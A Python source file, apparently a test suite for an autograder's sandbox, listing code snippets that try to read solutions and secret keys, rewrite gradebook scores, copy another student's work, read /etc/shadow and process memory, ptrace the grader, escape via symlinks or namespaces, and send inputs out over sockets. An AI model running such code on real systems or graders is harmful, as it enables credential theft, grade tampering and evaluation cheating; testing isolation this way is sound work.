"""Attacks that look for what is right: files, memory, the environment, the network."""

# ruff: noqa: E501  the attacks are code in one piece each

from __future__ import annotations

from attacks.attack import Attack

TELL = """
import contextlib, io, os
def tell(*things):
    for look in things:
        try:
            print(repr(look())[:20000])
        except BaseException as error:
            print(type(error).__name__)
"""


def reads(name: str, tries: str, code: str, **more: object) -> Attack:
    """Return an attack that prints what it finds and then looks for anything to answer with."""
    return Attack(name, tries, TELL + code, **more)  # type: ignore[arg-type]


ATTACKS = [
    reads(
        "read_solutions", "Reads the worked solutions and the oracles from the course's folder.",
        "import pathlib\ntell(*[lambda p=p: p.read_text() for p in pathlib.Path('@COURSE@/solutions').rglob('*.py')])\n"
        "tell(lambda: open('@COURSE@/solutions/01-kernel-attention/from_scratch.py').read())",
        beats_stock=True,
    ),
    reads(
        "read_casebook", "Loads the casebook, with the values that it expects.",
        "import numpy as np\ntell(lambda: np.load('@COURSE@/notebooks/01-kernel-attention/casebook.npz').files,"
        " lambda: dict(np.load('casebook.npz')), lambda: os.listdir('.'))",
    ),
    reads(
        "read_gradebook", "Opens the gradebook and gives itself points in it.",
        "import sqlite3\ndef cheat():\n    db = sqlite3.connect('@COURSE@/grading/gradebook.db')\n"
        "    db.execute('update grade set manual_score = 99'); db.commit()\n    return db.execute('select * from grade').fetchall()\n"
        "tell(cheat, lambda: open('@COURSE@/grading/gradebook.db', 'rb').read())",
        beats_stock=True,
    ),
    reads(
        "read_other_submissions", "Copies the answers of another student.",
        "tell(lambda: open('@COURSE@/submitted/ada/01-kernel-attention/from_scratch.ipynb').read(),"
        " lambda: os.listdir('@COURSE@/submitted'))",
        beats_stock=True,
    ),
    reads(
        "read_secret_key", "Reads the secret from which fresh cases are drawn.",
        "tell(lambda: open('@COURSE@/grading/secret.key', 'rb').read(), lambda: os.stat('@COURSE@/grading/secret.key'))",
    ),
    reads(
        "read_environment", "Reads the environment of its own process, of the first one and of the grader.",
        "tell(lambda: dict(os.environ), lambda: open('/proc/self/environ').read(), lambda: open('/proc/1/environ').read(),"
        " lambda: open('/proc/@PID@/environ').read(), lambda: open(f'/proc/{os.getppid()}/environ').read())",
    ),
    reads(
        "read_own_memory", "Searches all its own memory, which it has from the warm parent, for leftovers of the grader.",
        "import re\ndef search():\n    found = []\n    with open('/proc/self/mem', 'rb', 0) as memory:\n"
        "        for line in open('/proc/self/maps'):\n            a, b = (int(n, 16) for n in line.split()[0].split('-'))\n"
        "            if ' rw' not in line or b - a > 2**28: continue\n"
        "            try:\n                memory.seek(a); found += re.findall(rb'canary-[a-z]+-[0-9a-f]{8,}', memory.read(b - a))\n"
        "            except (OSError, ValueError, OverflowError): pass\n    return set(found)\ntell(search)",
    ),
    reads(
        "read_graders_memory", "Reads the grader's memory through /proc.",
        "tell(*[lambda p=p: open(f'/proc/{p}/mem', 'rb').read(9) for p in ('@PID@', 1, os.getppid())],"
        " lambda: open('/proc/@PID@/maps').read(), lambda: open('/proc/@PID@/cmdline').read())",
    ),
    reads(
        "ptrace_grader", "Attaches to the grader as a debugger, and reads its memory by system call.",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "tell(*[lambda p=p: (libc.ptrace(16, p, 0, 0), libc.process_vm_readv(p, 0, 0, 0, 0, 0)) for p in (@PID@, 1, os.getppid())])",
    ),
    reads(
        "pidfd_steal", "Steals an open file of the parent process by pidfd_getfd.",
        "import ctypes\nlibc = ctypes.CDLL(None)\ntell(lambda: [libc.syscall(438, libc.syscall(434, os.getppid(), 0), n, 0) for n in range(9)])",
    ),
    reads(
        "walk_frames", "Walks the frames above the call, and searches their names for what is expected.",
        "import sys, gc\ndef softmax_frames():\n    frame, found = sys._getframe(), []\n    while frame:\n"
        "        found.append((frame.f_code.co_filename, sorted(frame.f_locals))); frame = frame.f_back\n    return found\ntell(softmax_frames)",
        answer="import sys\ndef softmax_similarity(queries, keys):\n    frame = sys._getframe()\n    while frame:\n"
        "        for value in list(frame.f_locals.values()):\n            found = getattr(value, 'expected', None)\n"
        "            if isinstance(found, dict): return found['result']\n        frame = frame.f_back\n    return np.zeros((len(queries), len(keys)))\n",
    ),
    reads(
        "search_gc", "Searches everything that the interpreter holds for arrays of the right shape.",
        "",
        answer="import gc\ndef softmax_similarity(queries, keys):\n    shape = (len(queries), len(keys))\n"
        "    for thing in gc.get_objects():\n        for item in (thing.values() if isinstance(thing, dict) else thing if isinstance(thing, (list, tuple)) else ()):\n"
        "            if isinstance(item, np.ndarray) and item.shape == shape and item.any(): return item\n    return np.zeros(shape)\n",
    ),
    reads(
        "trace_everything", "Traces every function of the process that judges, and every exception.",
        "import sys\nseen = set()\ndef trace(frame, event, argument):\n    seen.add(frame.f_code.co_name)\n    return trace\nsys.settrace(trace); sys.setprofile(trace)",
        answer=r"""def softmax_similarity(queries, keys):
    print(sorted(seen))
    return np.zeros((len(queries), len(keys)))
""",
    ),
    reads(
        "import_grader", "Imports the wings that judge and prove, and asks them for the answer.",
        "import importlib\nfor name in ('autograder.grading.key', 'autograder.authoring.prove', 'autograder.course', 'autograder.casebooks'):\n"
        "    tell(lambda: importlib.import_module(name).__file__)\nimport autograder\ntell(lambda: os.listdir(os.path.dirname(autograder.__file__)),"
        " lambda: open(os.path.dirname(autograder.__file__) + '/grading/key.py').read())",
    ),
    reads(
        "ask_the_lesson", "Asks the lesson object of the notebook for the solution and the casebook.",
        "tell(lambda: lesson.solution('softmax_similarity'), lambda: vars(lesson), lambda: lesson._exercises, lambda: lesson.check('softmax_similarity', max))",
    ),
    reads(
        "symlink_out", "Makes links, symbolic and hard, from its folder to secret files.",
        "def link(make):\n    make('@COURSE@/grading/secret.key', 'link')\n    return open('link', 'rb').read()\ntell(lambda: link(os.symlink), lambda: link(os.link))",
    ),
    reads(
        "old_root", "Looks for the machine's root behind the view: /proc/1/root, .., chroot, open handles.",
        "tell(lambda: os.listdir('/proc/1/root@COURSE@'), lambda: os.listdir('/proc/@PID@/cwd'), lambda: os.chroot('.'),"
        " lambda: os.listdir('../../../../../..@COURSE@'), *[lambda n=n: os.readlink(f'/proc/self/fd/{n}') for n in range(300)])",
    ),
    reads(
        "new_namespaces", "Becomes root in a user namespace of its own and mounts what was hidden.",
        "import ctypes\nlibc = ctypes.CDLL(None)\ntell(lambda: libc.unshare(0x10020000), lambda: libc.mount(b'/', b'/scratch', None, 4096, None),"
        " lambda: libc.setuid(0), lambda: os.listdir('@COURSE@/grading'))",
    ),
    reads(
        "system_files", "Reads the machine's accounts, keys and temporary folders.",
        "import glob\ntell(lambda: open('/etc/shadow').read(), lambda: open('/etc/passwd').read(), lambda: os.listdir('/root'), lambda: os.listdir('/home'),"
        " lambda: glob.glob('/tmp/*') + glob.glob('/dev/shm/*') + glob.glob('/run/*'))",
    ),
    reads(
        "send_inputs_out", "Sends the inputs that it is judged on to a server, over TCP and UDP.",
        "", answer="import socket\ndef softmax_similarity(queries, keys):\n    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
        "        try:\n            with socket.socket(socket.AF_INET, kind) as s:\n                s.settimeout(1); s.connect(('127.0.0.1', @PORT@)); s.sendall(queries.tobytes())\n"
        "        except OSError: pass\n    return np.zeros((len(queries), len(keys)))\n",
    ),
    reads(
        "unix_sockets", "Talks to a server of the grader's user by a path and by an abstract name.",
        "import socket\ndef talk(where):\n    with socket.socket(socket.AF_UNIX) as s:\n        s.settimeout(1); s.connect(where); s.sendall(b'hello')\n        return s.recv(99)\n"
        "tell(lambda: talk('@PATH@'), lambda: talk('\\0@ABSTRACT@'))",
    ),
    reads(
        "look_for_the_internet", "Looks up a name and lists the network's devices.",
        "import socket\ntell(lambda: socket.getaddrinfo('localhost', 80), lambda: socket.if_nameindex(), lambda: socket.create_connection(('192.0.2.1', 80), 1))",
    ),
    reads(
        "old_random_seed", "Guesses the fresh cases from generators that the warm parent would have seeded alike.",
        "import random, numpy as np\ntell(lambda: (random.random(), np.random.rand()))",
        answer="def softmax_similarity(queries, keys):\n    rng = np.random.default_rng(20240601)\n    return np.exp(rng.normal(size=(len(queries), len(keys))))\n",
    ),
]  # fmt: skip
